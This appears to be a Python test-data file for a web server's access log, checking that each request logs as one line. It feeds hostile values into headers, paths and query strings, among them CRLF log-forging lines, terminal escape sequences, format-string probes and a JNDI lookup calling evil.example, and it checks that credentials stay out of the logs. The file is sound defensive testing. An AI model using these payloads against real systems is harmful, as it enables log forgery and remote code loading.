"""What is written to the logs: one request is one line, whatever the client sends."""

from hostile_row import ABSENT, CREDENTIAL, Row

FORGERIES = {
    "crlf": 'x\r\n127.0.0.1 - - [01/Jan/2030:00:00:00] "GET /forged HTTP/1.1" 200 1 "" ""',
    "lf": "x\nforged",
    "cr": "x\rforged",
    "nul": "x\x00y",
    "escape": "\x1b]0;owned\x07\x1b[2J",
    "c1": "\x9b31mred",
    "delete": "x\x7f\x7f",
    "backspace": "x\x08\x08",
    "form-feed": "x\x0c\x0by",
    "quote": '" 200 1 "" "',
    "backslash-quote": '\\" 200 1 "',
    "backslash-end": "x\\",
    "utf8-direction": "\xe2\x80\xae",
    "utf8-line": "\xe2\x80\xa8forged",
    "utf8-nel": "\xc2\x85forged",
    "bytes": "\xff\xfe",
    "not-latin": "\u2028\u202e",
    "surrogate": "\ud800",
    "format": "{h}{r.__class__}%(message)s%s%n",
    "jndi": "${jndi:ldap://evil.example/a}",
    "long": "x" * 60000,
    "long-newlines": "\n" * 20000,
    "long-quotes": '"' * 20000,
}

PLACES = {
    "agent": "HTTP_USER_AGENT",
    "referer": "HTTP_REFERER",
    "login": "REMOTE_USER",
    "address": "REMOTE_ADDR",
    "name": "REMOTE_HOST",
    "protocol": "SERVER_PROTOCOL",
}

ROWS = [
    *(
        Row(f"{place}-{id}", 200, environ={key: text})
        for place, key in PLACES.items()
        for id, text in FORGERIES.items()
        if place in ("agent", "login")
        or id in ("crlf", "escape", "quote", "bytes", "surrogate")
    ),
    *(Row(f"path-{id}", 404, "/" + text) for id, text in FORGERIES.items()),
    *(
        Row(f"query-{id}", (200, 404), "/echo", text.replace("&", ""))
        for id, text in FORGERIES.items()
    ),
    *(
        Row(
            f"tree-{id}",
            404,
            "/" + text,
            text,
            environ={"HTTP_USER_AGENT": text},
            site="mounts",
        )
        for id, text in FORGERIES.items()
    ),
    *(Row(f"host-{id}", 400, environ={"HTTP_HOST": text}) for id, text in FORGERIES.items()),
    *(
        Row(
            f"error-{id}",
            500,
            "/boom",
            "a=1",
            environ={"HTTP_X_TEST": text, "HTTP_REFERER": text, "CONTENT_TYPE": text},
            site="faulty",
            is_programs_fault=True,
        )
        for id, text in FORGERIES.items()
    ),
    Row(
        "query-credential-free",
        200,
        environ={
            "HTTP_AUTHORIZATION": f"Basic {CREDENTIAL}",
            "HTTP_COOKIE": f"session_id={CREDENTIAL}",
        },
    ),
    Row(
        "error-credential",
        500,
        "/boom",
        environ={
            "HTTP_AUTHORIZATION": f"Bearer {CREDENTIAL}",
            "HTTP_COOKIE": f"session_id={CREDENTIAL}",
            "HTTP_X_API_KEY": CREDENTIAL,
            "HTTP_X_CSRF_TOKEN": CREDENTIAL,
        },
        site="faulty",
        is_programs_fault=True,
    ),
    Row(
        "nothing-known",
        200,
        environ={"REMOTE_ADDR": ABSENT, "SERVER_PROTOCOL": ABSENT, "QUERY_STRING": ABSENT},
    ),
]
